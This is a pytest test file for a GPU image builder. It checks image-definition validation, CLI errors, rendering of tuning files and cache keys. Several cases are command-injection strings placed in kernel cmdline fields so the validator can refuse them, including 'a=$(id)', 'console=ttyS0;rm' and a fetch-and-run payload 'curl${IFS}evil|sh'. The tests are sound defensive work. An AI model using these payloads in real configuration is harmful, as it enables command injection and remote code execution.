"""Image definitions: schema checks, references, cmdline safety, stage rendering (pure, no processes)."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from builder.cli import main
from builder.images import netboot, stage
from builder.images.build import Context, cache_key, resolve
from builder.images.definition import ImageDef, find_image, load_image_file, parse_image
from builder.images.refs import load_tuning
from validator.errors import ConfigError, UserError

REPO = Path(__file__).resolve().parents[2]


def _write(tmp_path, data, name="img.yaml"):
    p = tmp_path / name
    p.write_text(yaml.safe_dump(data))
    return p


BASE = {"name": "t", "suite": "bookworm", "kernel": "6.1.0-54-cloud-amd64", "tuning": "gpu-performance",
        "drivers": ["535.261.03/proprietary"]}


def test_default_image_loads_and_round_trips():
    d = find_image(REPO / "images", "default")
    assert d.name == "default" and d.suite == "bookworm" and d.kernel.endswith("cloud-amd64")
    assert set(d.formats) == {"raw", "qcow2", "netboot"}
    assert ImageDef.from_json(d.to_json()) == d


def test_default_image_references_resolve(tmp_path):
    d = find_image(REPO / "images", "default")
    res = resolve(d, Context(repo=REPO, dist=tmp_path, apt_dir=tmp_path / "apt"))
    assert res.kernel.abi == d.kernel
    assert res.drivers[0].status == "absent" and "gpuforge build drivers" in res.drivers[0].reason
    assert "iommu=pt" in res.tuning.cmdline


@pytest.mark.parametrize("field,value,key", [
    ("suite", "buster", "suite"),
    ("formats", ["iso"], "formats[0]"),
    ("disk_size", "10", "disk_size"),
    ("cmdline_extra", ["quiet;reboot"], "cmdline_extra[0]"),
    ("cmdline_extra", ["a=$(id)"], "cmdline_extra[0]"),
    ("cmdline_extra", ["x=`id`"], "cmdline_extra[0]"),
    ("packages", ["bad pkg"], "packages[0]"),
    ("colour", "red", "colour"),
])
def test_bad_fields_name_file_and_key(tmp_path, field, value, key):
    p = _write(tmp_path, dict(BASE, **{field: value}))
    with pytest.raises(ConfigError) as e:
        load_image_file(p)
    assert e.value.key == key and str(p) in str(e.value)


def test_unknown_kernel_and_driver_are_user_errors(tmp_path):
    ctx = Context(repo=REPO, dist=tmp_path / "dist")
    with pytest.raises(UserError, match="kernels/\\*.yaml"):
        resolve(parse_image(dict(BASE, kernel="9.9.9-1-cloud-amd64"), "x.yaml"), ctx)
    with pytest.raises(UserError, match="drivers/\\*.yaml"):
        resolve(parse_image(dict(BASE, drivers=["999.1.2"]), "x.yaml"), ctx)
    with pytest.raises(UserError, match="flavour"):
        resolve(parse_image(dict(BASE, drivers=["tesla-535.216.03/open"]), "x.yaml"), ctx)
    with pytest.raises(UserError, match="tuning profile"):
        resolve(parse_image(dict(BASE, tuning="nope"), "x.yaml"), ctx)


def _repo_copy(tmp_path) -> Path:
    repo = tmp_path / "repo"
    for d in ("kernels", "drivers", "images", "cloud-init"):
        shutil.copytree(REPO / d, repo / d)
    return repo


def test_tuning_cmdline_with_shell_metacharacters_is_refused(tmp_path):
    repo = _repo_copy(tmp_path)
    prof = repo / "kernels" / "tuning" / "gpu-performance.yaml"
    data = yaml.safe_load(prof.read_text())
    data["cmdline"].append("iommu=pt;curl${IFS}evil|sh")
    prof.write_text(yaml.safe_dump(data))
    with pytest.raises(ConfigError) as e:
        load_tuning(repo / "kernels" / "tuning", "gpu-performance")
    assert "cmdline" in e.value.key


@pytest.mark.parametrize("change,needle", [
    ({"kernel": "9.9.9-1-cloud-amd64"}, "kernels/*.yaml"),
    ({"drivers": ["999.1.2"]}, "drivers/*.yaml"),
    ({"cmdline_extra": ["console=ttyS0;rm"]}, "cmdline_extra[0]"),
])
def test_cli_bad_input_exit_2_and_nothing_built(tmp_path, change, needle):
    p = _write(tmp_path, dict(BASE, **change))
    dist = tmp_path / "dist"
    r = CliRunner().invoke(main, ["build", "images", str(p), "--dist", str(dist)])
    assert r.exit_code == 2, r.output
    assert "error:" in r.output and needle in r.output and "Traceback" not in r.output
    assert not dist.exists()


def test_cli_unknown_image_name_lists_known(tmp_path):
    r = CliRunner().invoke(main, ["build", "images", "nosuch", "--dist", str(tmp_path / "d")])
    assert r.exit_code == 2 and "default" in r.output


def test_stage_bakes_the_profile(tmp_path):
    d = find_image(REPO / "images", "default")
    t = load_tuning(REPO / "kernels" / "tuning", d.tuning)
    st = stage.render_stage(tmp_path / "stage", REPO, d, t, packages=(), userspace=("nvidia-smi=535.261.03-1",),
                            install_debs=("v.deb",), carry_debs=(), image_info="{}")
    files = st / "files"
    assert (files / "etc/gpuforge/tuning.yaml").read_text() == t.text
    sysctl = (files / "etc/sysctl.d/90-gpuforge.conf").read_text()
    for k, v in t.sysctl:
        assert f"{k} = {v}" in sysctl
    grub = (files / "etc/default/grub.d/90-gpuforge.cfg").read_text()
    assert all(flag in grub for flag in t.cmdline)
    script = (files / "usr/libexec/gpuforge/apply-tuning").read_text()
    assert "scaling_governor" in script and "performance" in script and "madvise" in script
    assert "blacklist nouveau" in (files / "etc/modprobe.d/gpuforge-blacklist-nouveau.conf").read_text()
    pref = (files / "etc/apt/preferences.d/gpuforge-nvidia.pref").read_text()
    assert "Pin: version 535.261.03-1" in pref and "Pin-Priority: 1001" in pref
    env = (st / "provision.env").read_text()
    assert "gpuforge-tuning.service" in env and "nvidia-persistenced.service" in env
    assert (st / "provision.sh").read_text() == (REPO / "images/provision/provision.sh").read_text()
    ipxe = netboot.boot_ipxe(" ".join(stage.kernel_cmdline(d, t)))
    assert ipxe.startswith("#!ipxe") and "boot=gpuforge" in ipxe and "iommu=pt" in ipxe


def test_cache_key_changes_with_inputs():
    a = {"definition": {"x": 1}, "tuning_sha256": "a"}
    assert cache_key(a) == cache_key(json.loads(json.dumps(a)))
    assert cache_key(a) != cache_key(dict(a, tuning_sha256="b"))
